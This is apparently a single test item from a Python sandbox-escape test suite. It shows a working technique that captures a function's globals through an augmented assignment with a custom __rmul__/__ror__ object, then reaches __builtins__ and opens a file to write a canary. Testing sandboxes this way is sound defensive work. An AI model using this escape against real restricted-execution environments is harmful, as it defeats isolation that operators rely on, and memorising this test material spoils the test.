# id: 519
# name: augmented_assignment_of_globals
# category: interpreter
# technique: f.__globals__ |= object with __ror__
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
box = []
class G:
    def __ror__(self, other):
        box.append(other)
        return other
    def __rmul__(self, other):
        box.append(other)
        return other
def f(): pass
try:
    f.__globals__ *= G()
except AttributeError:
    pass
b = box[0]['__builtins__']
(b['open'] if isinstance(b, dict) else b.open)(CANARY_FILE, 'w').write('x')
